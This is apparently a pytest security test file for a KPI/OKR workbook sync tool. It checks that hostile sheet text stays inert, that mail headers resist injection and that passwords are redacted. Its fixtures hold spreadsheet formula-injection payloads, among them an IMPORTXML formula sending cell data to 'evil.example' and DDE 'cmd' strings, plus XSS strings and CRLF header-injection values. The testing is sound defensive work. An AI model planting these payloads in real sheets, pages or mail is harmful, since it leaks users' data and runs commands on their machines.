"""Hostile sheet text and careless set-ups: nothing injected, nothing leaked, all through the
real command.

- Formula injection: KPI names, owners, units, objectives and key results such as
  ``=IMPORTXML(...)`` stay text in every output. On .xlsx the saved file holds no formula
  element at all; on Google the emulator turns ``USER_ENTERED`` text starting with ``=`` into a
  formula as Sheets does, and none was created: every values write is ``RAW``.
- Mail: sheet text is HTML-escaped in the HTML part, and CR/LF in a name, an owner or the
  workbook's title cannot add a header, through a real SMTP server (aiosmtpd).
- Secrets: a password inside a URL (an endpoint through a proxy, a ping URL) is never printed.
  tests/test_secrets.py covers the SMTP password and private keys in every command's output.
- A credentials file readable by every user is warned about; a plain-http endpoint is refused
  unless it is a loopback address.
"""

from __future__ import annotations

import datetime as dt
import email
import email.policy
import json
import re
import zipfile
from collections.abc import Iterable
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import SmtpServerFactory
from ping_server import ping_server
from sheets_emulator import SheetsEmulator
from workbooks import config_text, starter_workbook, write_config

from sync.checks import check_credentials
from sync.cli import main
from sync.config import WorkbookConfig
from sync.monitor import Heartbeat

AS_OF = "2026-11-20T09:00:00+00:00"
WEEKS = [dt.datetime(2026, 11, 2), dt.datetime(2026, 11, 9), dt.datetime(2026, 11, 16)]
KPI_HEAD = ["KPI", "Owner", "Unit", "Warning", "Critical", *WEEKS]
OKR_HEAD = ["Objective", "Key result", "Owner", "Start", "Target", "Current", "Kind"]
IMPORTXML = '=IMPORTXML("http://evil.example/steal?d="&A1,"//a")'
FORMULAS = [
    IMPORTXML,
    '=HYPERLINK("http://evil.example","click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
Grid = list[list[Any]]


@pytest.fixture(autouse=True)
def lock_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("METRICS_SYNC_LOCK_DIR", str(tmp_path / "locks"))


def save(path: Path, tabs: dict[str, Grid]) -> Path:
    """A workbook whose text cells are text, as a person typing ``'=...`` or pasting gets."""
    book = openpyxl.Workbook()
    book.remove(book.worksheets[0])
    for title, grid in tabs.items():
        ws = book.create_sheet(title)
        for row in grid:
            ws.append(row)
        for cells in ws.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    book.save(path)
    return path


def run(cfg: Path) -> int:
    return main(["run", "--once", "--config", str(cfg), "--as-of", AS_OF])


def formula_tabs() -> dict[str, Grid]:
    """A KPI breached and one in ERROR (their names are mailed), the rest OK; a key result
    off track: every hostile text reaches the Status tab, the notes and the mails."""
    kpis: Grid = [
        KPI_HEAD,
        [FORMULAS[0], "sam@example.com", "=1+2", 480, 450, 515, 500, 300],
        [FORMULAS[1], "=1+1", "", "=1+1", 450, 515, 500, 490],
        *([name, "", "", 480, 450, 515, 500, 490] for name in FORMULAS[2:]),
    ]
    okrs: Grid = [OKR_HEAD, [FORMULAS[1], FORMULAS[0], "sam@example.com", 0, 100, 1, "committed"]]
    return {"KPIs": kpis, "OKRs": okrs}


def eml(folder: Path) -> list[EmailMessage]:
    found = [
        email.message_from_bytes(p.read_bytes(), policy=email.policy.default)
        for p in sorted(folder.glob("*.eml"))
    ]
    return [m for m in found if isinstance(m, EmailMessage)]


def plain(message: EmailMessage) -> str:
    part = message.get_body(("plain",))
    assert part is not None
    return str(part.get_content())


def html(message: EmailMessage) -> str:
    part = message.get_body(("html",))
    assert part is not None
    return str(part.get_content())


def flat(grid: Iterable[Iterable[object]]) -> list[object]:
    return [cell for row in grid for cell in row]


# -- formula injection ----------------------------------------------------------------------


def test_formula_text_stays_text_in_the_workbook_the_status_tab_and_the_mail_on_xlsx(
    tmp_path: Path,
) -> None:
    path = save(tmp_path / "team.xlsx", formula_tabs())
    cfg = write_config(tmp_path, '[workbook]\npath = "team.xlsx"')
    assert run(cfg) == 1  # the "=1+1" threshold is an ERROR row
    with zipfile.ZipFile(path) as z:
        sheets = {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")}
    assert [n for n, xml in sheets.items() if re.search(r"<f[ >]", xml)] == []
    book = openpyxl.load_workbook(path)
    assert [c.value for c in book["KPIs"]["A"][1:]] == FORMULAS
    assert all(c.data_type == "s" for c in book["KPIs"]["A"][1:])
    status = {
        c.value: c.data_type
        for row in book["Status"].iter_rows()
        for c in row
        if c.value is not None
    }
    assert all(status.get(name) == "s" for name in FORMULAS), status
    notes = [c.value for c in book["KPIs"][1] if c.value == "Note"]
    assert notes
    mails = {m["To"]: m for m in eml(tmp_path / "outbox")}
    assert IMPORTXML in plain(mails["sam@example.com"])
    assert FORMULAS[1] in plain(mails["leads@example.com"])  # its Owner holds no address


def test_formula_text_stays_text_on_google_which_makes_formulas_of_user_entered_text(
    tmp_path: Path, sheets_emulator: SheetsEmulator
) -> None:
    key = sheets_emulator.create(formula_tabs(), title=f"Team {IMPORTXML}")
    cfg = write_config(
        tmp_path,
        f'[workbook]\nbackend = "google"\nspreadsheet = "{key}"\n'
        f'endpoint = "{sheets_emulator.url}"',
    )
    assert run(cfg) == 1
    assert sheets_emulator.formulas(key) == []
    assert [row[0] for row in sheets_emulator.grid(key, "KPIs")[1:]] == FORMULAS
    status = flat(sheets_emulator.grid(key, "Status"))
    assert all(name in status for name in FORMULAS)
    batches = [r for r in sheets_emulator.requests if r.api == "batchUpdate"]
    writes = [r for r in batches if "updateCells" in json.dumps(r.body)]
    assert writes  # cells go as updateCells: text as stringValue, never a formulaValue
    assert '"stringValue": "=' in json.dumps([r.body for r in writes])
    assert all("formulaValue" not in json.dumps(r.body) for r in batches)
    assert not [
        r for r in sheets_emulator.requests if r.api.startswith("values.") and "pdate" in r.api
    ]
    mails = {m["To"]: m for m in eml(tmp_path / "outbox")}
    assert IMPORTXML in plain(mails["sam@example.com"])


# -- mail -------------------------------------------------------------------------------------

SCRIPT = '<script>alert("kpi")</script> & <b>co</b>'
IMG = "<img src=x onerror=alert(1)>"
LINK = '<a href="javascript:alert(1)">Close deals</a>'
INJECT = "\r\nX-Injected: yes\r\nReply-To: attacker"


def test_sheet_text_is_escaped_in_html_and_line_breaks_cannot_add_mail_headers(
    tmp_path: Path, smtp_server_factory: SmtpServerFactory
) -> None:
    server = smtp_server_factory(starttls=False)
    name = f"Q4 <b>metrics<b> & co{INJECT}"  # the workbook's title is the file's name
    save(
        tmp_path / f"{name}.xlsx",
        {
            "KPIs": [
                KPI_HEAD,
                [SCRIPT, f"sam@example.com{INJECT}", "<i>u</i>", 480, 450, 515, 500, 300],
                [f"Uptime{INJECT}", "ops@example.com", "", IMG, 450, 515, 500, 490],
            ],
            "OKRs": [OKR_HEAD, ["<h1>Grow</h1>", LINK, "sam@example.com", 0, 100, 1, "committed"]],
        },
    )
    cfg = write_config(
        tmp_path,
        f"[workbook]\npath = {json.dumps(name + '.xlsx')}",
        f'host = "{server.host}"\nport = {server.port}\nstarttls = false',
    )
    assert run(cfg) == 1
    received = server.handler.received
    assert sorted(r for e in received for r in e.rcpt_tos) == ["ops@example.com", "sam@example.com"]
    for envelope in received:
        head = envelope.data.split(b"\r\n\r\n", 1)[0]
        message = envelope.message
        assert re.findall(rb"^(?:X-Injected|Reply-To):", head, re.MULTILINE | re.I) == []
        assert message["Reply-To"] is None
        assert message["To"] == envelope.rcpt_tos[0]
        assert "\r" not in str(message["Subject"])
        assert "\n" not in str(message["Subject"])
        assert "<b>metrics<b> & co" in str(message["Subject"])  # a subject is not HTML
        body = html(message)
        for raw in (SCRIPT, IMG, LINK, "<h1>", "<i>u</i>", "<b>metrics<b>"):
            assert raw not in body
    sam = next(e.message for e in received if e.rcpt_tos == ("sam@example.com",))
    assert "&lt;script&gt;alert(&#34;kpi&#34;)&lt;/script&gt; &amp; &lt;b&gt;co&lt;/b&gt;" in html(
        sam
    )
    assert SCRIPT in plain(sam)  # the text part shows it as typed
    ops = next(e.message for e in received if e.rcpt_tos == ("ops@example.com",))
    assert "&lt;img src=x onerror=alert(1)&gt;" in html(ops)


# -- secrets, credentials, endpoints ----------------------------------------------------------

PROXY_PASSWORD = "Pr0xy-S3cret-4u"  # searched for in every line of output
PING_PASSWORD = "P1ng-S3cret-4u"


def test_a_password_inside_an_endpoint_or_a_ping_url_is_never_printed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    save(
        tmp_path / "team.xlsx",
        {"KPIs": [KPI_HEAD, ["Leads", "", "", 480, 450, 515, 500, 490]], "OKRs": [OKR_HEAD]},
    )
    google = tmp_path / "google.toml"
    google.write_text(
        '[workbook]\nbackend = "google"\nspreadsheet = "1AbCdEfGhIjKlMnOpQrStUv"\n'
        f'endpoint = "http://proxy:{PROXY_PASSWORD}@sheets.example.com"\n'
    )
    outputs = []
    with ping_server() as ping:
        ping.status = 404  # the heartbeat's warning names the ping URL's host
        url = ping.url.replace("http://", f"http://hc:{PING_PASSWORD}@")
        pinged = write_config(
            tmp_path, '[workbook]\npath = "team.xlsx"', f'\n[monitor]\nping_url = "{url}"'
        )
        for argv in (
            ["run", "--once", "--config", str(pinged), "--as-of", AS_OF],
            ["run", "--once", "--config", str(google)],
            ["check", "--config", str(google)],
            ["run", "--once", "--log-format", "json", "--config", str(google)],
        ):
            code = main(argv)
            said = capsys.readouterr()
            outputs.append(f"{argv} -> {code}\n{said.out}{said.err}")
    text = "\n".join(outputs)
    assert PROXY_PASSWORD not in text
    assert PING_PASSWORD not in text
    assert "hc:[redacted]@127.0.0.1" in text  # the heartbeat did report its failure
    assert "proxy:[redacted]@sheets.example.com" in text
    assert ping.pings  # the ping went out, with its password, to the server only


def test_a_credentials_file_readable_by_every_user_is_warned_about_on_every_run(
    tmp_path: Path, sheets_emulator: SheetsEmulator, capsys: pytest.CaptureFixture[str]
) -> None:
    key = sheets_emulator.create(
        {"KPIs": [KPI_HEAD, ["Leads", "", "", 480, 450, 515, 500, 490]], "OKRs": [OKR_HEAD]}
    )
    creds = tmp_path / "user.json"
    creds.write_text(
        json.dumps(
            {  # a stored, unexpired token: no token request needed
                "type": "authorized_user",
                "client_id": "c",
                "client_secret": "s",
                "refresh_token": "r",
                "token": "user-token",
                "expiry": "2999-01-01T00:00:00Z",
            }
        )
    )
    creds.chmod(0o644)
    cfg = write_config(
        tmp_path,
        f'[workbook]\nbackend = "google"\nspreadsheet = "{key}"\n'
        f'endpoint = "{sheets_emulator.url}"\ncredentials = "user.json"',
    )
    assert run(cfg) == 0
    err = capsys.readouterr().err
    assert f"credentials file {creds} is readable by every user" in err
    assert f"chmod 600 {creds}" in err
    found = check_credentials(
        WorkbookConfig(backend="google", spreadsheet=key, credentials=creds, name="team")
    )
    assert [(f.level, f.fix) for f in found] == [
        ("warn", f"chmod 600 {creds} (or 640 with a group of its own)")
    ]
    creds.chmod(0o600)
    assert run(cfg) == 0
    assert "readable by every user" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "endpoint",
    [
        "http://sheets.example.com",
        "http://10.0.0.7:8080",
        "http://0.0.0.0:8080",
        "http://localhost.evil.example",
        "http://127.0.0.1.nip.io",
    ],
)
def test_a_plain_http_endpoint_is_refused_unless_it_is_a_loopback_address(
    endpoint: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = write_config(
        tmp_path,
        '[workbook]\nbackend = "google"\n'
        f'spreadsheet = "1AbCdEfGhIjKlMnOpQrS"\nendpoint = "{endpoint}"',
    )
    assert run(cfg) == 2
    assert main(["check", "--config", str(cfg)]) == 2
    said = capsys.readouterr()
    expected = f"endpoint = {endpoint!r}: expected an https:// URL, or http:// only on a loopback"
    assert said.err.count(expected) == 2
    assert "Traceback" not in said.err
    assert not (tmp_path / "outbox").exists()


def test_a_plain_http_endpoint_on_a_loopback_address_is_the_emulator_and_works(
    tmp_path: Path, sheets_emulator: SheetsEmulator
) -> None:
    key = sheets_emulator.create(
        {"KPIs": [KPI_HEAD, ["Leads", "", "", 480, 450, 515, 500, 490]], "OKRs": [OKR_HEAD]}
    )
    url = sheets_emulator.url.replace("127.0.0.1", "localhost")
    cfg = write_config(
        tmp_path, f'[workbook]\nbackend = "google"\nspreadsheet = "{key}"\nendpoint = "{url}"'
    )
    assert run(cfg) == 0
    assert sheets_emulator.requests


# -- what would travel in clear text -------------------------------------------------------------


def check_output(cfg: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(["check", "--config", str(cfg)])
    return code, capsys.readouterr().out


@pytest.mark.parametrize(
    ("host", "warned"), [("smtp.example.com", True), ("127.0.0.1", False), ("localhost", False)]
)
def test_a_login_without_tls_to_a_remote_host_is_warned_about_by_check(
    host: str,
    warned: bool,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SMTP_PASSWORD", "s3cret-pw")
    starter_workbook(tmp_path / "team-metrics.xlsx")
    cfg = tmp_path / "metrics-sync.toml"
    cfg.write_text(
        config_text(
            email=f'host = "{host}"\nstarttls = false\nusername = "metrics"\n'
            'password_env = "SMTP_PASSWORD"',
        )
    )
    code, out = check_output(cfg, capsys)
    assert code == 0
    line = (
        "warn mail: email.starttls = false with email.username set: the password for "
        f"'metrics' travels in clear text to {host}"
    )
    assert (line in out) is warned, out
    assert "s3cret-pw" not in out


@pytest.mark.parametrize(
    ("url", "warned"),
    [
        ("http://hc.example.com/ping/0f4c5b6e", True),
        ("https://hc.example.com/ping/0f4c5b6e", False),
        ("http://127.0.0.1:8000/ping/0f4c5b6e", False),
    ],
)
def test_a_plain_http_ping_url_to_a_remote_host_is_warned_about_by_check_and_run(
    url: str,
    warned: bool,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    starter_workbook(tmp_path / "team-metrics.xlsx")
    cfg = tmp_path / "metrics-sync.toml"
    cfg.write_text(config_text(extra=f'\n[monitor]\nping_url = "{url}"\n'))
    code, out = check_output(cfg, capsys)
    assert code == 0
    assert ("warn monitor.ping_url is plain http:// to hc.example.com" in out) is warned, out
    assert "0f4c5b6e" not in out
    Heartbeat(url)
    assert ("its secret path travels in clear text" in caplog.text) is warned
    assert "0f4c5b6e" not in caplog.text
